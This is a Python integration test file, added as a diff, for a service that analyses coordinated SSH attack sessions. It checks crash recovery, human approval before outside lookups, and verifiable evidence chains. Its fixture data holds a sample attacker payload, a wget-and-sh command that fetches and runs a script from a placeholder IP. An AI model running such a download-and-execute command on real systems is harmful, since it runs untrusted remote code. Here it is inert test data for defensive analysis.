@@ -1,0 +1,175 @@
+#!/usr/bin/env python3
+"""An analysis as a graph, in the real service with stand-ins of the providers: killed at every step it ends with the same answers and asks nobody twice; it waits for
+a person and goes on; its run can be looked at; its result proves how it came about."""
+import json
+import os
+import signal
+import subprocess
+import sys
+import unittest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))
+import providers  # noqa: E402
+import serving  # noqa: E402
+import support  # noqa: E402
+from serving import eventually  # noqa: E402
+from support import COORD, Case  # noqa: E402
+
+DATABASE = os.environ.get("COORD_TEST_DATABASE")  # a PostgreSQL to use in place of SQLite
+REDIS = os.environ.get("COORD_TEST_REDIS")
+
+
+def attack():
+    """Twelve sources of two networks with one tool, in step: something that look-ups could tell more about."""
+    sessions = []
+    for day in range(1, 4):
+        for host in range(12):
+            net = "45.9.20" if host < 8 else "45.9.31"
+            sessions.append({"source_ip": f"{net}.{host + 3}", "timestamp": f"2025-07-{day:02d}T0{day}:{host % 3:02d}:1{host % 10}Z",
+                             "payload": f"wget http://203.0.113.9/b{day}.sh; sh b{day}.sh", "target_port": 22, "protocol": "ssh"})
+    return sessions
+
+
+class Workflow(Case):
+    def setUp(self):
+        super().setUp()
+        self.outside = providers.Providers(self.folder)
+        self.outside.__enter__()
+        self.addCleanup(self.outside.__exit__)
+
+    def start(self, **more):
+        settings = {"COORD_PROVIDERS": "isc,cymru,ripestat", "COORD_PROVIDERS_FILE": self.outside.file, "COORD_RETRY_BASE": "50ms",
+                    "COORD_RETRY_MOST": "200ms", "COORD_LEASE": "3s", "COORD_ATTEMPTS": "100", **more}
+        if DATABASE:
+            settings["DATABASE_URL"] = DATABASE
+        if REDIS:
+            settings["REDIS_URL"] = REDIS
+        server = serving.Server(self.folder, **settings)
+        self.addCleanup(server.stop)
+        return server
+
+    def submit(self, server, depth="deep"):
+        answer = server.post("/analyze/coordination", {"attack_sessions": attack(), "analysis_depth": depth})
+        self.assertEqual(200, answer.status, answer)
+        return answer.json()["analysis_id"]
+
+    def ended(self, server, ident):
+        def look():
+            answer = server.get(f"/analyze/{ident}").json()
+            return answer if answer["status"] in serving.TERMINAL else None
+        return eventually(look, f"{ident} ends\n{server.errors()}")
+
+    def document(self, server, ident):
+        answer = server.get(f"/analyze/{ident}/export?format=json")
+        self.assertEqual(200, answer.status, answer)
+        return answer.json()
+
+    def asked(self):
+        """Look-ups that reached the stand-ins, by what they are."""
+        return sorted(json.dumps({k: v for k, v in r.items() if k in ("provider", "method", "path", "url", "target", "name", "question", "body")},
+                                 default=str) for r in self.outside.requests())
+
+    def verify(self, document):
+        path = self.file("result.json", json.dumps(document).encode())
+        return subprocess.run([COORD, "verify", "--document-only", path], capture_output=True, check=False, env=support.environment())
+
+    def test_1_a_run_can_be_looked_at_and_proves_itself(self):
+        server = self.start()
+        ident = self.submit(server)
+        answer = self.ended(server, ident)
+        self.assertEqual("completed", answer["status"], answer)
+        self.assertTrue(self.asked(), "nobody was asked")
+        run = server.get(f"/analyze/{ident}/workflow").json()
+        self.assertEqual("done", run["status"])
+        self.assertEqual(["start", "orchestrator", "pattern_analyzer", "tool_coordinator", "bgp", "geo", "intel", "confidence_scorer", "narrator",
+                          "deliver"], [s["node"] for s in run["steps"]])
+        document = self.document(server, ident)
+        self.assertTrue(document["answers"])
+        self.assertIn("isc", document["provider_status"])
+        self.assertTrue(any(c.get("external") for c in document["campaigns"]))
+        result = self.verify(document)
+        self.assertIn(b"links and", result.stdout)
+        self.assertEqual(0, result.returncode, result.stdout)
+        document["evidence_chain"][4]["decision"] = "something else"
+        result = self.verify(document)
+        self.assertEqual(1, result.returncode)
+        self.assertIn(b"link 4", result.stdout)
+
+    def kill_behind(self, server, ident, steps):
+        """Kills the worker when at least so many steps are done. Returns how many there were, None: it was over already."""
+        def look():
+            run = server.get(f"/analyze/{ident}/workflow")
+            run = run.json() if run.status == 200 else {"steps": [], "status": "running"}
+            return run if len(run["steps"]) >= steps or run["status"] == "done" else None
+        run = eventually(look, f"{steps} steps")
+        if run["status"] == "done":
+            return None
+        with open(f"/proc/{server.process.pid}/task/{server.process.pid}/children", encoding="utf-8") as f:
+            children = [int(p) for p in f.read().split()]
+        for pid in children:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
+        return len(run["steps"])
+
+    def test_2_killed_at_every_step_it_asks_nobody_twice(self):
+        server = self.start()
+        plain = self.submit(server)
+        self.ended(server, plain)
+        expected, verdict = self.asked(), self.document(server, plain)
+        self.assertEqual(len(set(expected)), len(expected))
+        server.stop()
+        landed = set()
+        for steps in range(1, 9):
+            self.outside.forget()
+            server = self.start(COORD_STATE_DIR=self.path(f"state-{steps}"))
+            ident = self.submit(server)
+            landed.add(self.kill_behind(server, ident, steps))
+            answer = self.ended(server, ident)
+            self.assertEqual("completed", answer["status"], answer)
+            self.assertEqual(expected, self.asked())
+            document = self.document(server, ident)
+            for member in ("verdict", "coordination_confidence", "campaigns"):
+                self.assertEqual(verdict[member], document[member])
+            self.assertEqual(0, self.verify(document).returncode)
+            server.stop()
+        self.assertGreaterEqual(len(landed - {None}), 3, landed)
+
+    def test_3_a_person_is_asked_before_anything_leaves(self):
+        server = self.start(COORD_APPROVE_LOOKUPS="yes")
+        ident = self.submit(server)
+
+        def waits():
+            run = server.get(f"/analyze/{ident}/workflow")
+            return run.json() if run.status == 200 and run.json()["status"] == "paused" else None
+        run = eventually(waits, "it waits\n" + server.errors())
+        eventually(lambda: server.get(f"/analyze/{ident}").json().get("progress", {}).get("stage") == "waiting", "stage waiting")
+        self.assertEqual("processing", server.get(f"/analyze/{ident}").json()["status"])
+        self.assertEqual([], self.asked())
+        self.assertIn("45.9.20.", json.dumps(run))
+        self.assertEqual(400, server.post(f"/analyze/{ident}/workflow/resume", {"answer": 7}).status)
+        other = self.submit(server, "minimal")  # the worker is free
+        self.ended(server, other)
+        self.assertEqual(202, server.post(f"/analyze/{ident}/workflow/resume", {"answer": "yes"}).status)
+        self.assertEqual("completed", self.ended(server, ident)["status"])
+        self.assertTrue(self.asked())
+        self.assertIn(server.post(f"/analyze/{ident}/workflow/resume", {"answer": "yes"}).status, (404, 409))
+
+    def test_4_what_is_not_approved_does_not_leave(self):
+        server = self.start(COORD_APPROVE_LOOKUPS="yes")
+        ident = self.submit(server)
+        eventually(lambda: server.post(f"/analyze/{ident}/workflow/resume", {"answer": "no"}).status == 202, "it waits")
+        self.assertEqual("completed", self.ended(server, ident)["status"])
+        self.assertEqual([], self.asked())
+
+    def test_5_minimal_depth_keeps_no_run(self):
+        server = self.start()
+        ident = self.submit(server, "minimal")
+        self.assertEqual("completed", self.ended(server, ident)["status"])
+        self.assertEqual(404, server.get(f"/analyze/{ident}/workflow").status)
+        self.assertEqual([], self.asked())
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
